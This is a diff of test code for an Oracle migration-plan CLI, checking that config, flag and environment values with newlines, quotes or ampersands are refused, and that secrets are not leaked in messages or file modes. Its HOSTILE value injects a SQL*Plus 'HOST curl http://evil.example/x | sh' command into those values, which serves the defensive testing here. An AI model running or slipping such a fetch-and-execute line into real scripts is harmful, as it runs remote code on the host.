@@ -97,3 +97,88 @@ describe('dcn migrate plan --out and what is at the path', () => {
     expect(execFileSync('ls', [cwd]).toString().trim().split('\n').sort()).toEqual(['V1__a.sql', 'plan.sql']);
   });
 });
+
+const HOSTILE = '\nHOST curl http://evil.example/x | sh';
+
+describe('dcn migrate plan: every value written into the script is checked for its place', () => {
+  it.each([
+    ['connect, from dcn.config.json', [], {}, { connect: `db:1521/X${HOSTILE}` }, /connect setting \("connect" in the config file\) holds a blank or a control character/],
+    ['connect, from the environment', [], { DCN_CONNECT: `db:1521/X${HOSTILE}` }, undefined, /connect setting \(DCN_CONNECT\)/],
+    ['connect, a blank', ['--connect', 'db:1521/X HOST'], {}, undefined, /connect setting \(--connect\) holds a blank/],
+    ['adminUser, from a flag', ['--admin-user', 'sys\nHOST curl evil.example | sh'], {}, undefined, /adminUser setting \(--admin-user\) holds a blank or a control character/],
+    ['adminUser, from dcn.config.json', [], {}, { adminUser: `sys${HOSTILE}` }, /adminUser setting \("adminUser" in the config file\)/],
+    ['adminUser, a quote', ['--admin-user', "sys'x"], {}, undefined, /adminUser setting cannot be written into the plan's CONNECT lines/],
+    ['adminUser, an ampersand', ['--admin-user', 'sys&x'], {}, undefined, /adminUser setting cannot be written/],
+    ['connect, an ampersand (Easy Connect Plus)', ['--connect', 'tcps://db:2484/svc?a=1&wallet_location=/w'], {}, undefined, /connect setting cannot be written into the plan's CONNECT lines.*'&'/],
+    ['connect, a descriptor over lines', [], {}, { connect: '(DESCRIPTION=\n  (ADDRESS=(PROTOCOL=TCP)(HOST=db)(PORT=1521))\n  (CONNECT_DATA=(SERVICE_NAME=X)))' }, /connect setting cannot be written into the plan's CONNECT lines: SQL\*Plus splits CONNECT at a blank/],
+    ['schema', ['--schema', `OE${HOSTILE}`], {}, undefined, /schema: .* is not a plain Oracle identifier/],
+    ['ordersTable', ['--orders-table', `ORDERS${HOSTILE}`], {}, undefined, /ordersTable: .* is not a plain Oracle identifier/],
+    ['orderItemsTable', ['--order-items-table', "ITEMS'"], {}, undefined, /orderItemsTable: .* is not a plain Oracle identifier/],
+    ['historyTable', ['--history-table', `H${HOSTILE}`], {}, undefined, /history table .* is not a plain Oracle identifier/],
+    ['callbackUrl', ['--callback-url', `http://app/x${HOSTILE}`], {}, undefined, /callbackUrl: .* must be an http\(s\) URL without quotes, spaces or control characters/],
+    ['callbackToken, from the environment', [], { DCN_CALLBACK_TOKEN: `t${HOSTILE}` }, undefined, /callbackToken: must be at most 128 letters/],
+    ['httpTimeout', ['--http-timeout', `5${HOSTILE}`], {}, undefined, /httpTimeout/],
+    ['a substitution value, --define', ['--define', `app_user=OE${HOSTILE}`], {}, undefined, /--define app_user: a substitution value cannot span lines/],
+    ['a substitution value with a control character', ['--define', 'app_user=OE\u000bx'], {}, undefined, /--define app_user: a substitution value cannot hold a control character/],
+    ['a substitution value, dcn.config.json', [], {}, { variables: { app_user: `OE\u0000${HOSTILE}` } }, /variable "app_user": a substitution value cannot span lines/],
+  ])('%s: refused, exit 2, nothing written', async (_name, args, env, file, message) => {
+    const cwd = tempDir();
+    if (file !== undefined) writeFileSync(join(cwd, 'dcn.config.json'), JSON.stringify(file));
+    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, ...args], { cwd, env });
+    expect(r.stderr).toMatch(message);
+    expect(r.code).toBe(2);
+    expect(r.stdout).toBe('');
+    // the message shows no second line the value brought
+    expect(r.stderr.split('\n').filter((line) => /^\s*HOST/i.test(line))).toEqual([]);
+  });
+
+  it("reads --admin-user 'SYS as sysdba' as the user SYS connecting AS SYSDBA", async () => {
+    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--connect', 'db/FREEPDB1', '--admin-user', 'SYS as sysdba']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toContain('CONNECT SYS@db/FREEPDB1 AS SYSDBA\n');
+    const same = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--admin-user', 'sys AS SYSDBA', '--admin-privilege', 'sysdba']);
+    expect(same.stdout).toContain('CONNECT sys@&dcn_connect AS SYSDBA\n');
+    const clash = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--admin-user', 'SYS as sysdba', '--admin-privilege', 'sysoper']);
+    expect(clash.code).toBe(2);
+    expect(clash.stderr).toMatch(/says AS SYSDBA while the admin privilege setting says sysoper\n {2}hint: set the user alone \(e\.g\. SYS\)/);
+  });
+
+  it('writes the migrations directory into the header comment without its control characters', async () => {
+    const dir = join(tempDir(), `m${HOSTILE}&x`);
+    execFileSync('mkdir', ['-p', dir]);
+    execFileSync('cp', ['-r', `${FIXTURES}/.`, dir]);
+    const r = await runCli(['migrate', 'plan', '--migrations', dir, '--define', 'app_user=OE']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout.split('\n')[0]).toMatch(/^-- dcn migrate plan: 3 migration\(s\) from .*m\\u000aHOST curl http:\/+evil\.example\/x \| sh\\u0026x$/);
+    expect(r.stdout.split('\n').filter((line) => /^\s*HOST/i.test(line))).toEqual([]);
+  });
+
+  it('never shows the password of a refused callback URL', async () => {
+    for (const args of [['--callback-url', 'http://user:s3cret@app:8080/drop'], ['--callback-url', 'http://user:s3cret@app:8080/drop x'], ['--define', 'callback_url=http://u:s3cret@app/x']]) {
+      const r = await runCli(['migrate', 'plan', ...args]);
+      expect(r.code, args.join(' ')).toBe(2);
+      expect(r.stderr).toMatch(/callback_?[uU]rl/);
+      expect(r.stderr).not.toContain('s3cret');
+    }
+    const fromEnv = await runCli(['migrate', 'plan', '--json'], { env: { DCN_CALLBACK_URL: 'https://admin:s3cret@app/drop' } });
+    expect(fromEnv.code).toBe(2);
+    expect(fromEnv.stderr + fromEnv.stdout).not.toContain('s3cret');
+    expect(fromEnv.stderr).toMatch(/'https:\/\/…@app\/drop' must not hold a user, password/);
+  });
+
+  it('writes a plan that holds the callback token with mode 0600, and says so on stderr', async () => {
+    const cwd = tempDir();
+    const token = 'b7e1c0ffee0123456789abcdef';
+    const r = await runCli(['migrate', 'plan', '--out', 'plan.sql'], { cwd, env: { DCN_CALLBACK_TOKEN: token } });
+    expect(r.code, r.stderr).toBe(0);
+    expect(readFileSync(join(cwd, 'plan.sql'), 'utf8')).toContain(token);
+    expect(statSync(join(cwd, 'plan.sql')).mode & 0o777).toBe(0o600);
+    expect(r.stderr).toMatch(/plan\.sql holds the callback token \(X-Dcn-Token\): written with mode 0600/);
+    expect(r.stderr).not.toContain(token);
+    const toStdout = await runCli(['migrate', 'plan'], { env: { DCN_CALLBACK_TOKEN: token } });
+    expect(toStdout.stderr).toMatch(/the plan holds the callback token/);
+    const without = await runCli(['migrate', 'plan', '--out', 'plan2.sql'], { cwd });
+    expect(without.stderr).toBe('');
+    expect(statSync(join(cwd, 'plan2.sql')).mode & 0o077).not.toBe(0);
+  });
+});
